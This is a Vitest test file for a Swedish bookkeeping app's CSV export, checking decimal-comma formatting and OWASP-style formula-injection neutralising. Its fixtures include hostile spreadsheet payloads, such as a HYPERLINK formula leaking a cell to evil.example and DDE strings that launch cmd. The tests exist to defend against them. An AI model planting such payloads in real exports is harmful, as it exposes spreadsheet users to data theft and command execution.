import {describe, expect, it} from "vitest";
import {neutraliseFormula, oreToCsvKr, toCsv} from "../src/lib/csv-export.js";
import {vouchersCsv, accountsCsv} from "../src/components/statement-parts.js";

describe("toCsv", () => {
  it("writes ; separated rows with CRLF, decimal comma and quotes only where needed", () => {
    expect(
      toCsv(
        ["Rad", "2023 (kr)"],
        [
          ["Verksamhetens intäkter", 8629008n],
          ["Andel", 0.337],
          ['Text; med "citat"', null]
        ]
      )
    ).toBe('Rad;2023 (kr)\r\nVerksamhetens intäkter;8629008\r\nAndel;0,337\r\n"Text; med ""citat""";\r\n');
  });
});

describe("CSV injection (OWASP)", () => {
  it.each([
    ["=1+2", "'=1+2"],
    ["+46 70 123 45 67", "'+46 70 123 45 67"],
    ["-Avgår: hyra", "'-Avgår: hyra"],
    ["@SUM(A1:A9)", "'@SUM(A1:A9)"],
    ["\tTab först", "'\tTab först"],
    ["\rCR först", "'\rCR först"],
    // Numbers written as text by oreToCsvKr stay numbers, so a negative amount still sums in Excel.
    ["-1234,56", "-1234,56"],
    ["-24252", "-24252"],
    ["Hyra = 3 000 kr", "Hyra = 3 000 kr"],
    ["", ""]
  ])("%j → %j", (text, safe) => expect(neutraliseFormula(text)).toBe(safe));

  it("neutralises hostile account names and voucher texts, and leaves the amounts as numbers", () => {
    const accounts = accountsCsv(
      {accounts: ["1930", "2440"]} as never,
      [
        {account: "1930", name: '=HYPERLINK("http://evil.example/?"&A1;"Bank")', opening: 100_00n, movement: -2_50n},
        {account: "2440", name: "@SUM(1+1)*cmd|' /C calc'!A0", opening: -123456n, movement: 0n}
      ] as never
    );
    expect(toCsv(accounts.columns, accounts.rows)).toBe(
      "Konto;Benämning;Ingående saldo (kr);Årets rörelse (kr)\r\n" +
        '1930;"\'=HYPERLINK(""http://evil.example/?""&A1;""Bank"")";100;-2,50\r\n' +
        "2440;'@SUM(1+1)*cmd|' /C calc'!A0;-1234,56;0\r\n"
    );
    const vouchers = vouchersCsv([
      {
        date: "2023-03-01",
        series: "A",
        number: 7,
        voucher_text: "-2+3+cmd|'/C calc'!A0",
        project: "+P1",
        amount_ore: "-500000"
      },
      {date: "2023-03-02", series: "B", number: 8, voucher_text: "\t=1", project: null, amount_ore: "12345"}
    ] as never);
    expect(toCsv(vouchers.columns, vouchers.rows)).toBe(
      "Datum;Serie;Nummer;Text;Projekt;Belopp (kr)\r\n" +
        "2023-03-01;A;7;'-2+3+cmd|'/C calc'!A0;'+P1;-5000\r\n" +
        "2023-03-02;B;8;'\t=1;;123,45\r\n"
    );
  });

  it("keeps number cells as numbers, negative ones too", () => {
    expect(toCsv(["a", "b", "c"], [[-5, -1234n, -0.5]])).toBe("a;b;c\r\n-5;-1234;-0,5\r\n");
  });
});

describe("oreToCsvKr", () => {
  it.each([
    [123456n, "1234,56"],
    [-24252_00n, "-24252"],
    [5n, "0,05"],
    [-105n, "-1,05"]
  ])("%s öre → %s", (ore, text) => expect(oreToCsvKr(ore)).toBe(text));
});
